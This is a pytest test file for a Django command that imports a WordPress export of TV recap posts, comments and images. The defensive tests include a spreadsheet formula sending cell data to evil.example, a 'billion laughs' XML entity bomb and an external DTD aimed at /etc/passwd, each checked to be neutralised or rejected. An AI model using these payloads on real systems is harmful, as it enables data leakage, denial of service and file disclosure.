"""`import_wordpress` on the hand-written export (tests/importer/exports/small.xml)."""

import csv

import pytest
from django.contrib.auth import get_user_model
from django.contrib.redirects.models import Redirect
from django.core.management import CommandError, call_command
from django_comments_xtd.models import XtdComment

from discussion.models import Moderation
from importer.models import ImportRun, WordPressOrigin
from recaps.models import Recap, RecapTransition, Still
from recaps.roles import WRITERS
from shows.models import Episode, Show

pytestmark = pytest.mark.django_db

MODELS = (Recap, Still, Show, Episode, XtdComment, Moderation, Redirect, WordPressOrigin)


def recap(post_id):
    origin = WordPressOrigin.objects.get(kind="post", wp_id=str(post_id))
    return Recap.objects.get(pk=origin.object_id)


def counts():
    return {model.__name__: model.objects.count() for model in (*MODELS, get_user_model())}


def test_recap_headline_show_and_episode_come_from_the_post(imported):
    first = recap(101)
    assert first.headline == "Moonlit Harbor Episode 1 Recap and Review: Lanterns & Ledgers"
    assert first.episode.show.title == "Moonlit Harbor"  # the category's spelling
    assert first.slug == "moonlit-harbor-episode-1-recap"
    # "Ep 2 Recap &amp; Review – Tides Turn": an entity inside the title and a dash.
    assert recap(102).headline == "Moonlit Harbor Episode 2 Recap and Review: Tides Turn"


def test_a_show_named_only_by_the_headline_is_created_and_flagged(imported):
    starfall = recap(105).episode.show
    assert starfall.title == "Starfall Season 2"
    assert recap(105).episode.number == 5
    run = ImportRun.objects.get()
    flagged = {item["title"] for item in run.attention if item["kind"] == "show"}
    assert flagged == {"Moonlit Harbor", "Starfall Season 2", "사운드트랙"}
    assert all("imported: schedule unknown" in item["reason"] for item in run.attention[:1])


def test_korean_and_emoji_headlines_and_text_come_through(imported):
    korean = recap(108)
    assert korean.headline == "사운드트랙 Episode 2 Recap and Review: 노래 🎵"
    assert "한국어 본문과 이모지 🎧" in korean.body
    assert "“entities” &amp; more" in korean.body  # HTML entities read as text
    assert korean.slug == "episode-2"  # URLs here are ASCII; the old one redirects


def test_two_episode_post_creates_both_episodes(imported):
    scheduled = recap(103)
    assert scheduled.episode.number == 3
    assert Episode.objects.filter(show=scheduled.episode.show, number=4).exists()


def test_statuses_map_to_the_workflow(imported):
    assert recap(101).state == Recap.State.PUBLISHED
    assert recap(101).published_at.isoformat() == "2024-03-06T09:00:00+00:00"
    assert recap(103).state == Recap.State.SCHEDULED
    assert recap(105).state == Recap.State.IN_REVIEW
    titles = set(Recap.objects.values_list("subtitle", flat=True))
    assert "Deleted" not in titles  # trash is left out


def test_authors_become_writers_without_passwords(imported):
    mina = recap(101).author
    assert mina.get_full_name() == "Mina Park"
    assert not mina.has_usable_password()
    assert mina.groups.filter(name=WRITERS).exists()
    assert recap(102).author.get_full_name() == "Jo Lee"


def test_body_is_split_into_sections_and_cleaned(imported):
    first = recap(101)
    assert "달빛 항구" in first.intro and "🌙" in first.intro
    assert "fish market" in first.body and "crates &amp; argues" in first.body
    assert "gull steals" in first.bonus_track
    assert "gentle start" in first.review and "💙" in first.review
    everything = first.intro + first.body + first.bonus_track + first.review
    for gone in ("lead roles", "Telegram", "streaming on Harbour+", "[caption", "Recap</"):
        assert gone not in everything
    gutenberg = recap(102)
    assert "wp:paragraph" not in gutenberg.intro + gutenberg.body
    assert gutenberg.body == "<p>Dal-hee follows the gull across the rooftops <em>again</em>.</p>"
    assert "Also Read" not in gutenberg.review


def test_the_show_facts_paragraph_is_reported(imported):
    run = ImportRun.objects.get()
    assert run.counts["facts_dropped"] == 1


def test_caption_and_featured_image_become_the_hero_still(imported):
    hero = Still.objects.get(recap=recap(101))
    assert hero.is_hero and hero.section == "recap"
    assert hero.caption == "Still From Moonlit Harbor Episode 1"
    assert hero.credit == "Harbour Pictures"
    assert hero.alt_text == "Still From Moonlit Harbor Episode 1"  # provisional, from the caption
    # Stored, not only read from the file when a model is loaded: reader pages ask for values.
    assert Still.objects.filter(pk=hero.pk).values_list("width", "height").get() == (160, 90)


def test_alt_text_comes_from_the_attachment_and_missing_images_are_listed(imported):
    sailors = Still.objects.get(recap=recap(102))
    assert sailors.alt_text == "Two sailors on a stone quay at dusk"
    assert sailors.caption == "Two sailors at the quay"
    run = ImportRun.objects.get()
    assert run.counts["images_found"] == 2
    assert run.counts["images_missing"] == 1
    assert run.counts["images_provisional_alt"] == 1
    reasons = {(item["wp_id"], item["outcome"]) for item in run.attention}
    assert ("203", "missing") in reasons and ("201", "provisional alt text") in reasons
    assert ("103", "no hero still") in reasons  # scheduled, and nothing to lead it


def test_a_duplicate_slug_gets_a_suffix(imported):
    assert recap(102).slug == "moonlit-harbor-ep-2"
    assert recap(103).slug == "moonlit-harbor-ep-2-2"


def test_tags_keep_categories_that_are_not_shows(imported):
    assert set(recap(101).tags.names()) == {"K-Drama", "Romance"}
    assert set(recap(102).tags.names()) == {"Sea Stories 🌊"}


def test_also_read_links_between_posts_become_picks(imported):
    assert list(recap(102).also_read.all()) == [recap(101)]


def test_comments_keep_threads_status_and_details(imported):
    comments = {
        int(origin.wp_id): XtdComment.objects.get(pk=origin.object_id)
        for origin in WordPressOrigin.objects.filter(kind="comment")
    }
    assert set(comments) == {301, 302, 303, 304, 305, 308}  # pingback 306, spam 307 left out
    root, reply, deeper, deepest = (comments[i] for i in (301, 302, 303, 304))
    assert (root.level, reply.parent_id, deeper.parent_id) == (0, root.pk, reply.pk)
    assert deepest.level == 2 and deepest.parent_id == reply.pk  # as deep as threads go
    assert {reply.thread_id, deeper.thread_id, deepest.thread_id} == {root.pk}
    assert root.user_email == "sora@example.com" and root.ip_address == "203.0.113.7"
    assert root.user_url == "https://sora.example.com"
    assert root.comment == "Loved the lanterns! 등불 최고"
    assert root.submit_date.isoformat() == "2024-03-06T11:00:00+00:00"
    held = comments[305]
    assert not held.is_public and held.moderation.status == Moderation.Status.HELD
    assert root.is_public and root.moderation.status == Moderation.Status.APPROVED
    hostile = comments[308]
    assert hostile.comment == "Nice recap"  # the script went with its code, not only its tags
    assert hostile.user_url == ""
    run = ImportRun.objects.get()
    assert (run.counts["comments_public"], run.counts["comments_held"]) == (5, 1)
    assert (run.counts["comments_pingback"], run.counts["comments_spam"]) == (1, 1)


def test_posts_that_are_not_recaps_are_listed_with_their_text(imported, export):
    run = ImportRun.objects.get()
    assert run.counts["posts_left_out"] == 3  # the list post, the page, the trashed post
    rows = list(csv.DictReader(open(run.report_csv, encoding="utf-8")))
    assert run.report_csv.startswith(str(export.parent))
    left_out = {row["wordpress_id"]: row for row in rows if row["outcome"] == "left out"}
    assert set(left_out) == {"104", "106", "107"}
    assert "ten towns by the sea" in left_out["104"]["content"]
    assert left_out["104"]["needs_editor"] == "yes"
    assert {item["wp_id"] for item in run.attention if item["outcome"] == "left out"} == {
        "104",
        "107",
    }


def test_the_csv_report_opens_in_a_spreadsheet_without_running_a_formula(run_import, export):
    """Point 7: a title (or URL, reason, text) from the export was written as it came, so a
    post titled `=HYPERLINK(…)` was a live formula in the editor's spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open the report")'
    text = export.read_text(encoding="utf-8")
    export.write_text(text.replace("Top 10 Harbour Towns on Screen", formula.replace("&", "&amp;")))
    run_import()
    rows = list(csv.DictReader(open(ImportRun.objects.get().report_csv, encoding="utf-8")))
    (row,) = [row for row in rows if row["wordpress_id"] == "104"]
    assert row["title"] == "'" + formula
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_running_the_same_export_again_changes_nothing(run_import):
    run_import()
    before = counts()
    run_import()
    assert counts() == before
    second = ImportRun.objects.latest()
    assert second.counts["recaps_unchanged"] == 5
    assert second.counts.get("recaps_created", 0) == 0
    assert second.counts["comments_unchanged"] == 6


def test_a_newer_export_updates_what_changed(run_import, export):
    run_import()
    text = export.read_text(encoding="utf-8")
    newer = text.replace("Lanterns &amp; Ledgers", "Lanterns and Ledgers").replace(
        "<![CDATA[0]]></wp:comment_approved>", "<![CDATA[1]]></wp:comment_approved>"
    )
    export.write_text(newer, encoding="utf-8")
    before = counts()
    run_import()
    assert counts() == before
    assert recap(101).subtitle == "Lanterns and Ledgers"
    held = WordPressOrigin.objects.get(kind="comment", wp_id="305")
    comment = XtdComment.objects.get(pk=held.object_id)
    assert comment.is_public and comment.moderation.status == Moderation.Status.APPROVED
    assert ImportRun.objects.latest().counts["recaps_updated"] == 1


def test_dry_run_writes_nothing(run_import, capsys):
    run_import(dry_run=True, verbosity=1)
    assert Recap.objects.count() == 0 and ImportRun.objects.count() == 0
    assert get_user_model().objects.count() == 0
    out = capsys.readouterr().out
    assert "Dry run" in out and "Recaps: 5 created" in out


def test_wxr_1_1_reads_the_same(run_import, export):
    export.write_text(
        export.read_text(encoding="utf-8").replace("export/1.2/", "export/1.1/"), encoding="utf-8"
    )
    run_import()
    assert Recap.objects.count() == 5


BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>&lol3;</title></channel></rss>
"""


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (BOMB, "declares a DTD or entities"),
        ('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><rss/>', "DTD"),
        ("<rss><channel><item><title>cut off", "not well-formed XML"),
        ("<html><body>not an export</body></html>", "not a WordPress export"),
    ],
    ids=["entity-bomb", "external-dtd", "malformed", "not-wxr"],
)
def test_unsafe_or_broken_exports_fail_clearly_and_write_nothing(
    run_import, tmp_path, text, message
):
    path = tmp_path / "bad.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CommandError, match=message):
        run_import(path)
    assert all(value == 0 for value in counts().values())
    assert ImportRun.objects.count() == 0


def test_a_malformed_end_writes_nothing_either(run_import, export):
    text = export.read_text(encoding="utf-8")
    export.write_text(text.replace("</channel>", "<item><title>broken</item></channel>"))
    with pytest.raises(CommandError, match="not well-formed"):
        run_import()
    assert Recap.objects.count() == 0


def test_one_bad_post_is_reported_and_the_rest_imported(run_import, export, monkeypatch):
    from importer import content

    real_split = content.split

    def split(html):
        if "Waiting for an editor" in html:
            raise ValueError("a body this importer cannot read")
        return real_split(html)

    monkeypatch.setattr(content, "split", split)
    run_import()
    run = ImportRun.objects.get()
    assert run.counts["failed"] == 1 and run.counts["recaps_created"] == 4
    failed = [item for item in run.attention if item["outcome"] == "failed"]
    assert failed[0]["wp_id"] == "105" and "cannot read" in failed[0]["reason"]
    assert not Show.objects.filter(title="Starfall Season 2").exists()  # rolled back
    # What the batch writes at its end is there for the others, and nothing for the failed one.
    assert RecapTransition.objects.count() == 4 and Still.objects.count() == 2
    assert WordPressOrigin.objects.filter(kind="post").count() == 4
    assert recap(101).tags.exists()


def test_a_recap_the_search_index_refuses_is_listed_and_the_rest_indexed(
    run_import, monkeypatch, client
):
    from django.db import DatabaseError

    from search import documents

    real_refresh = documents.refresh

    def refresh(recaps):
        if recaps.filter(subtitle="Tides Turn").exists():
            raise DatabaseError("string is too long for tsvector")
        real_refresh(recaps)

    monkeypatch.setattr(documents, "refresh", refresh)
    run_import()
    refused = [i for i in ImportRun.objects.get().attention if i["outcome"] == "not in search"]
    assert [item["wp_id"] for item in refused] == ["102"]
    assert recap(101).get_absolute_url() in client.get("/search/?q=ledgers").text


def test_missing_export_file_is_a_clear_error(db):
    with pytest.raises(CommandError, match="No such export file"):
        call_command("import_wordpress", "/nonexistent/export.xml", verbosity=0)


def test_a_newer_export_adds_new_replies_to_imported_threads(run_import, export):
    run_import()
    reply = (
        "<wp:comment><wp:comment_id>309</wp:comment_id><wp:comment_author>Late</wp:comment_author>"
        "<wp:comment_author_email>late@example.com</wp:comment_author_email>"
        "<wp:comment_date_gmt>2024-03-08 10:00:00</wp:comment_date_gmt>"
        "<wp:comment_content>A reply that came after the first export.</wp:comment_content>"
        "<wp:comment_approved>1</wp:comment_approved><wp:comment_type>comment</wp:comment_type>"
        "<wp:comment_parent>301</wp:comment_parent></wp:comment>\n\t</item>"
    )
    export.write_text(export.read_text(encoding="utf-8").replace("</item>", reply, 1))
    run_import()
    origins = {
        o.wp_id: o.object_id for o in WordPressOrigin.objects.filter(wp_id__in=["301", "309"])
    }
    late = XtdComment.objects.get(pk=origins["309"])
    assert late.parent_id == origins["301"] and late.level == 1 and late.is_public
    assert late.moderation.status == Moderation.Status.APPROVED
    assert XtdComment.objects.count() == 7
